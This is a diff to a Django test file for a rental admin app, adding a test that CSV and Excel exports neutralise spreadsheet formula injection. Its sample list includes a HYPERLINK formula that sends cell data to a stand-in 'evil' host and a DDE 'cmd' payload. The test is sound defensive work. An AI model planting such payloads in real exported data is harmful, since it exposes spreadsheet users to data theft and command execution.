@@ -70,7 +70,10 @@ def test_filters_and_default_order(operator, inventory, query, expected):
 
 
 def test_the_end_date_range_filter(operator, inventory):
-    start, end = (timezone.localdate() + timedelta(days=1)), (timezone.localdate() + timedelta(days=3))
+    # From the day after the 10-hour rental ends to the day the 50-hour one ends, at any time of day.
+    now = timezone.now()
+    start = timezone.localdate(now + timedelta(hours=10)) + timedelta(days=1)
+    end = timezone.localdate(now + timedelta(hours=50))
     response = operator.get(
         LIST_URL, {"end_date__range__gte": start.isoformat(), "end_date__range__lte": end.isoformat()}
     )
@@ -165,3 +168,30 @@ def test_balance_checks_and_errors_do_not_fill_the_account_history(simulator):
     services.account_check_balance(account=account)
     services.account_record_error(account=account, error=NoNumbers("NO_NUMBERS"), operation="getRentNumber")
     assert account.history.count() == before
+
+
+FORMULAE = ['=HYPERLINK("http://evil/?"&B2,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]
+
+
+def _export(client, file_format: str) -> bytes:
+    data = {"format": file_format, "resource": "0", **{f"rentalresource_{name}": "on" for name in EXPORT_FIELDS}}
+    response = client.post(reverse("admin:rentals_rental_export"), data)
+    assert response.status_code == 200
+    return response.content
+
+
+def test_exports_carry_no_formula_whatever_a_label_or_note_says(operator):
+    for index, formula in enumerate(FORMULAE):
+        RentalFactory(number=f"38050222000{index}", label=formula, notes=formula, cost="-1.5")
+    rows = list(csv.DictReader(io.StringIO(_export(operator, "0").decode("utf-8-sig"))))
+    cells = [row[column] for row in rows for column in ("Used for", "Notes")]
+    assert sorted(cells) == sorted(["'" + formula for formula in FORMULAE] * 2)  # shown as text, nothing lost
+    assert {row["Number"][0] for row in rows} == {"+"} and {row["Cost (USD)"] for row in rows} == {"-1.50"}  # numbers
+
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(_export(operator, "1"))).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert cells and all(cell.data_type != "f" for cell in cells)  # no cell is a formula
+    assert not any(str(cell.value or "").startswith("=") for cell in cells)
+    assert "'" + FORMULAE[0] in {cell.value for cell in cells} and "None" not in {cell.value for cell in cells}
